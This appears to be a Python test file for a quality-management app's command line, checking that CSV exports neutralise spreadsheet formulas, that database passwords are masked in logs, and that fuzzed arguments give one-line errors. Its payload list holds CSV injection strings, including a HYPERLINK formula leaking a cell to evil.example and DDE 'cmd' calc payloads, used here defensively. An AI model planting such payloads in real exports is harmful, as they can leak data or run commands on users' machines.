"""``cqms`` never answers with a traceback or an "unexpected" error (issue #15 items 11, 12, 8):
fuzzed command lines, CSV output that no spreadsheet runs as a formula, and no password in the
log."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cqms_desktop import cli
from cqms_desktop.domain.enums import Department as D
from cqms_desktop.exports.xlsx_safe import csv_field
from cqms_desktop.services import admin, feedback, service_records
from cqms_desktop.services.base import Actor
from cqms_desktop.store import db as dbmod
from cqms_desktop.store import migrations
from tests.fuzzing import fuzz
from tests.users import make_user

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _isolated_environment(monkeypatch, tmp_path):
    monkeypatch.delenv("CQMS_DB", raising=False)
    monkeypatch.setenv("CQMS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)  # a fuzzed relative file name lands in the test's folder


@pytest.fixture
def url(tmp_path) -> str:
    """A SQLite file with customers named like formulas, their feedback and an exchange."""
    address = dbmod.sqlite_url(tmp_path / "cqms.sqlite3")
    dbmod.open_database(address)
    migrations.migrate()
    sales = make_user(D.SALES)
    for number, name in enumerate(PAYLOADS, start=1):
        customer = admin.add_customer(Actor.system(), code=f"C{number}", name=name)
        feedback.register_feedback(
            sales,
            customer_id=customer.id,
            channel="phone",
            description="x",
            received_at=datetime(2026, 1, 5, 8, 0),
        )
    service_records.add_service_record(
        sales,
        customer_id=1,
        kind="exchange",
        service_date="2026-01-05",
        part_number="-PN-9",
        quantity=5,
        reason="r",
    )
    dbmod.close_database()
    return address


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# ---------------------------------------------------------------- CSV injection (item 12)


def test_list_as_csv_writes_no_formula(capsys, url):
    code, out, err = _run(capsys, "--db", url, "list", "feedback", "--format", "csv")
    assert code == 0, err
    names = [row["customer"] for row in csv.DictReader(io.StringIO(out))]
    assert sorted(names) == sorted("'" + p.strip() for p in PAYLOADS)  # names are stripped
    code, out, _ = _run(capsys, "--db", url, "list", "service", "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["part_number"] == "'-PN-9" and row["quantity"] == "5"


def test_json_keeps_the_text_exactly(capsys, url):
    code, out, _ = _run(capsys, "--db", url, "list", "feedback")
    assert code == 0
    assert sorted(r["customer"] for r in json.loads(out)) == sorted(p.strip() for p in PAYLOADS)


def test_csv_file_output_is_guarded_too(capsys, url, tmp_path):
    code, _out, err = _run(
        capsys, "--db", url, "list", "feedback", "--format", "csv", "-o", "list.csv"
    )
    assert code == 0, err
    text = (tmp_path / "list.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(r["customer"].startswith("'") for r in rows)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("-12", "-12"),  # a negative number is a number, not user text: as it is
        ("-3.50", "-3.50"),
        ("+7", "+7"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        ("=1", "'=1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_the_csv_guard(value, written):
    assert csv_field(value) == written


# ---------------------------------------------------------------- passwords in the log (item 8)


@pytest.mark.logged_errors
def test_an_internal_error_logs_the_command_line_with_the_password_masked(
    capsys, monkeypatch, tmp_path
):
    def broken(_args):
        raise RuntimeError("boom while using postgresql://cqms:S3cr3t-pw@db.example/cqms")

    monkeypatch.setattr(cli, "cmd_check", broken)
    code, _out, err = _run(capsys, "--db", "postgresql://cqms:S3cr3t-pw@db.example/cqms", "check")
    assert code == 2 and "S3cr3t" not in err
    log = (tmp_path / "data" / "cqms.log").read_text("utf-8")
    assert "boom" in log and "cqms:***@db.example" in log
    assert "S3cr3t" not in log


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql://u:S3cr3t@[::1/db", "postgresql://u:***@[::1/db"),
        ("postgresql://u:S3cr3t@[zz]/db", "postgresql://u:***@[zz]/db"),
        ("mysql://u:p@ss:S3cr3t@h/db", "mysql://u:***@h/db"),
        ("postgresql://h/db?password=S3cr3t", "postgresql://h/db?password=***"),
        ("postgresql://u@h/db", "postgresql://u@h/db"),
    ],
)
def test_urls_are_shown_with_the_password_masked_even_when_malformed(url, shown):
    assert dbmod.describe_url(url) == shown


def test_a_malformed_ipv6_host_is_a_one_line_error_without_the_password(capsys):
    code, _out, err = _run(capsys, "--db", "postgresql://u:S3cr3t@[::1/db", "check")
    assert code == 2 and "malformed" in err and "S3cr3t" not in err
    assert len(err.strip().splitlines()) == 1 and "unexpected" not in err


# ---------------------------------------------------------------- bad arguments (item 11)


@pytest.mark.parametrize(
    "argv",
    [
        ["backup", "-o", ""],
        ["backup", "-o", "/proc/x"],
        ["backup", "-o", "/proc"],
        ["backup", "-o", "a" * 300],
        ["backup", "-o", "x\x00y"],
        ["list", "complaints", "-o", ""],
        ["list", "complaints", "--format", "csv", "-o", "/proc/x"],
        ["list", "complaints", "-o", "/"],
        ["list", "complaints", "-o", "a" * 300],
        ["export", "register", "complaints", "-o", "/proc/x.xlsx"],
        ["export", "review", "--period", "2026Q4", "-o", "/proc/x.xlsx"],
        ["export", "form", "complaint", "--blank", "--format", "pdf", "-o", ""],
        ["restore", ""],
        ["restore", "/proc"],
        ["restore", "a" * 300],
        ["import", "customers", ""],
        ["import", "customers", "a" * 300 + ".xlsx"],
    ],
)
def test_bad_file_arguments_are_one_line_errors(capsys, url, argv):
    code, _out, err = _run(capsys, "--db", url, *argv)
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("cqms: error: "), err
    assert "unexpected" not in err


@pytest.mark.parametrize(
    "db",
    [
        "postgresql://u:pw@[::1/db",
        "postgresql://u:pw@[zz]/db",
        "mysql://u:pw@h:99999/db",
        "sqlite:///" + "a" * 300,
        "sqlite:///" + "a" * 300 + "/x.sqlite3",
    ],
)
@pytest.mark.parametrize("command", ["check", "init"])
def test_bad_database_urls_are_one_line_errors(capsys, db, command):
    code, _out, err = _run(capsys, "--db", db, command)
    assert code == 2
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("cqms: error: "), err
    assert "unexpected" not in err and "pw@" not in err


FILE_NAMES = st.one_of(
    st.sampled_from(["", " ", "/proc/x", "/proc", "/", "a" * 300, "x\x00y", "out.xlsx", "ok.csv"]),
    st.text(min_size=1, max_size=12).filter(lambda t: "/" not in t),
)
WORDS = st.one_of(
    st.sampled_from(["", "-", "--", "2026Q4", "2026-13", "CC-2026-0001", "zz", "9" * 30]),
    st.text(max_size=10),
)


@st.composite
def command_lines(draw) -> list[str]:
    kind = draw(st.sampled_from(["complaints", "feedback", "visits", "surveys", "service"]))
    choices = [
        ["check"],
        ["list", kind, "--format", draw(st.sampled_from(["json", "csv"])), "-o", draw(FILE_NAMES)],
        ["list", kind, "--status", draw(WORDS), "--customer", draw(WORDS)],
        ["backup", "-o", draw(FILE_NAMES)],
        ["restore", draw(FILE_NAMES)],
        ["export", "register", kind, "--from", draw(WORDS), "-o", draw(FILE_NAMES)],
        ["export", "review", "--period", draw(WORDS), "-o", draw(FILE_NAMES)],
        ["export", "form", draw(WORDS), draw(WORDS), "--format", "pdf", "-o", draw(FILE_NAMES)],
        ["import", "customers", draw(FILE_NAMES), "--dry-run"],
        ["user", "disable", draw(WORDS)],
        [draw(WORDS), draw(WORDS)],
    ]
    return draw(st.sampled_from(choices))


@fuzz(250)
@given(argv=command_lines())
def test_fuzzed_command_lines_never_fail_unexpectedly(capsys, url, argv):
    code, _out, err = _run(capsys, "--db", url, *argv)
    assert code in (0, 1, 2), err
    assert "unexpected" not in err and "Traceback" not in err, (argv, err)
    if code == 2:
        errors = [line for line in err.splitlines() if "error:" in line]
        assert len(errors) == 1, (argv, err)


def test_a_backup_into_a_folder_name_goes_into_that_folder(capsys, url, tmp_path):
    """``-o DIR`` is ``--to-folder DIR`` (issue #15 item 15): a named, verified backup there."""
    code, out, err = _run(capsys, "--db", url, "backup", "-o", str(tmp_path))
    assert code == 0 and "verified" in out, err
    assert len(list(tmp_path.glob("cqms-*.cqmsdump"))) == 1
